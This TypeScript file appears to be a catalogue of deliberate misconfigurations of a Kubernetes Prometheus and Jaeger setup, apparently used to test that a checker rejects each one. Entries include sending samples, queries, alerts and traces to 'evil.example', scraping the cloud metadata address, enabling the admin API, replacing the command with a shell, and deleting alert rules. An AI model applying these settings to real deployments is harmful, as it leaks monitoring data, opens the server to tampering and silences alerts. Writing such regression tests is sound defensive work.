/** A Prometheus that serves more, asks elsewhere, or keeps nothing. */
import { all, CONTAINER, JAEGER, POD, PROMETHEUS, remove, set, text } from "../draft";
import type { Weakening, Weakenings } from "../draft";

const flag = (value: string): Weakening[1] => set(PROMETHEUS, `${CONTAINER}/args/+`, value);
const config = (path: string, value: unknown): Weakening[1] =>
  text("ConfigMap/metrics-config", "prometheus.yml", path, value);
const SCRAPE = { job_name: "x", static_configs: [{ targets: ["169.254.169.254:80"] }] };

export const PROMETHEUS_WEAKENINGS: Weakenings = {
  "web-config-elsewhere": [
    "a web configuration that no Secret holds",
    set(PROMETHEUS, `${CONTAINER}/args/2`, "--web.config.file=/etc/prometheus/config/web.yml"),
  ],
  "web-config-twice": ["the last flag wins", flag("--web.config.file=/prometheus/web.yml")],
  "web-config-empty": [
    "an empty file is no configuration",
    set(PROMETHEUS, `${CONTAINER}/args/2`, "--web.config.file="),
  ],
  "config-elsewhere": [
    "a configuration that no ConfigMap holds",
    set(PROMETHEUS, `${CONTAINER}/args/0`, "--config.file=/prometheus/x.yml"),
  ],
  "data-elsewhere": ["data beside the volume", set(PROMETHEUS, `${CONTAINER}/args/1`, "--storage.tsdb.path=/tmp")],
  "retention-size-zero": ["zero is no limit: the disk fills", config("storage/tsdb/retention/size", "0")],
  "retention-size-zero-unit": ["the same with a unit", config("storage/tsdb/retention/size", "0MB")],
  "retention-time-zero": ["zero is no limit", config("storage/tsdb/retention/time", "0s")],
  "retention-flag-zero": ["the flag goes before the file", flag("--storage.tsdb.retention.size=0")],
  "retention-flag-short": ["an hour of samples", flag("--storage.tsdb.retention.time=1h")],
  "retention-removed": ["fifteen days, whatever the disk", config("storage/tsdb/retention", undefined)],
  "admin-api": ["whoever may query may delete", flag("--web.enable-admin-api")],
  lifecycle: ["whoever may query may stop it", flag("--web.enable-lifecycle")],
  cors: ["any web page may query in a person's browser", flag("--web.cors.origin=.*")],
  "listen-elsewhere": ["a second address", flag("--web.listen-address=0.0.0.0:9091")],
  "external-url": ["links lead elsewhere", flag("--web.external-url=https://evil.example")],
  "console-templates": ["templates are code", flag("--web.console.templates=/prometheus/consoles")],
  "agent-mode": ["no rule and no query", flag("--agent")],
  "feature-unknown": ["a feature that is not finished", flag("--enable-feature=promql-experimental-functions")],
  "otlp-receiver": ["a second way to write", flag("--web.enable-otlp-receiver")],
  "max-connections": ["no limit of connections", set(PROMETHEUS, `${CONTAINER}/args/5`, "--web.max-connections=0")],
  "debug-log": ["queries in the log", flag("--log.level=debug")],
  "command-replaced": ["a shell instead of the program", set(PROMETHEUS, `${CONTAINER}/command`, ["sh"])],
  "remote-write-away": ["samples leave", config("remote_write", [{ url: "https://evil.example/write" }])],
  "remote-read": ["queries leave", config("remote_read", [{ url: "https://evil.example/read" }])],
  "scrapes-metadata": ["it asks the metadata server", config("scrape_configs", [SCRAPE])],
  "scrape-files": ["jobs from files that nobody sees", config("scrape_config_files", ["/prometheus/*.yml"])],
  "alerts-away": [
    "alerts leave",
    config("alerting", { alertmanagers: [{ static_configs: [{ targets: ["evil.example:9093"] }] }] }),
  ],
  tracing: ["spans of queries leave", config("tracing", { endpoint: "evil.example:4317" })],
  "otlp-settings": ["names of series change", config("otlp", { promote_all_resource_attributes: true })],
  "external-labels": [
    "series and alerts pass for another cluster's",
    config("global/external_labels", { cluster: "x" }),
  ],
  "query-log": ["queries in a file", config("global/query_log_file", "/prometheus/queries.log")],
  "config-invalid": ["nobody knows what is in it", set("ConfigMap/metrics-config", "data/prometheus.yml", "a: [")],
  "config-empty": ["no configuration", set("ConfigMap/metrics-config", "data", {})],
  "web-secret-without-users": [
    "a web configuration without users",
    set("Secret/metrics-web", "stringData/web.yml", undefined),
  ],
  "web-secret-without-key": [
    "without a key there is no TLS",
    set("Secret/metrics-web", "stringData/tls.key", undefined),
  ],
  "web-secret-optional": [
    "without the Secret it starts without a login",
    set(PROMETHEUS, `${POD}/volumes/2/secret/optional`, true),
  ],
  "web-secret-removed": ["it does not start", remove("Secret/metrics-web")],
  "claim-removed": ["the volume is gone", remove("PersistentVolumeClaim/metrics-data")],
  "claim-unprotected": [
    "a destroy deletes the samples",
    (stack) => {
      stack.protect("PersistentVolumeClaim/metrics-data", false);
    },
  ],
  "claim-shared": [
    "other nodes write too",
    set("PersistentVolumeClaim/metrics-data", "spec/accessModes", ["ReadWriteMany"]),
  ],
  "claim-of-another": [
    "the content of another volume",
    set("PersistentVolumeClaim/metrics-data", "spec/dataSource", { kind: "PersistentVolumeClaim", name: "x" }),
  ],
  "claim-volume": ["a volume of somebody's choice", set("PersistentVolumeClaim/metrics-data", "spec/volumeName", "x")],
  "no-out-of-order": ["samples of an outage are rejected", config("storage/tsdb/out_of_order_time_window", undefined)],
  "out-of-order-zero": ["the same", config("storage/tsdb/out_of_order_time_window", "0s")],
  "no-rules": ["no alert is ever raised", config("rule_files", [])],
  "no-rules-unset": ["the same", config("rule_files", undefined)],
  "rule-file-fewer": ["some alerts are gone", config("rule_files/1", undefined)],
  "rule-file-elsewhere": ["rules that no ConfigMap holds", config("rule_files/+", "/prometheus/*.yml")],
  "rules-emptied": ["the same", set("ConfigMap/metrics-rules", "data/agent-alerts.yaml", "groups: []")],
  "rules-group-emptied": ["the same", text("ConfigMap/metrics-rules", "write-path-alerts.yaml", "groups/0/rules", [])],
  "rules-removed": ["the same", set("ConfigMap/metrics-rules", "data", {})],
  "rules-map-removed": ["the same", remove("ConfigMap/metrics-rules")],
  "replicas-zero": ["no store", set(PROMETHEUS, "spec/replicas", 0)],
  "replicas-two": ["two servers on one volume", set(PROMETHEUS, "spec/replicas", 2)],
  "no-probes": [
    "a server that hangs gets requests for ever",
    all(
      set(PROMETHEUS, `${CONTAINER}/livenessProbe`, undefined),
      set(PROMETHEUS, `${CONTAINER}/readinessProbe`, undefined),
    ),
  ],
  "no-liveness": ["it is never restarted", set(PROMETHEUS, `${CONTAINER}/livenessProbe`, undefined)],
  "probe-command": [
    "the probe runs another program",
    set(PROMETHEUS, `${CONTAINER}/readinessProbe/exec/command`, ["/bin/true"]),
  ],
  "grace-period": ["it is killed while it writes", set(PROMETHEUS, `${POD}/terminationGracePeriodSeconds`, 0)],
  "jaeger-args": [
    "Jaeger with a configuration from an address",
    set(JAEGER, `${CONTAINER}/args/0`, "--config=https://evil.example/c.yaml"),
  ],
  "jaeger-set": [
    "settings beside the file",
    set(JAEGER, `${CONTAINER}/args/+`, "--set=extensions.jaeger_query.http.endpoint=0.0.0.0:80"),
  ],
};
